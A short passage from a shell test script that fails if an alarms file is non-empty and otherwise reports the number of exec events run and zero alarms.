	[ ! -s "$T/alarms" ] || { cat "$T/alarms"; false; }
	echo "# programs run: $(count "$f" '.type == "exec"'), alarms: 0" >&3
}
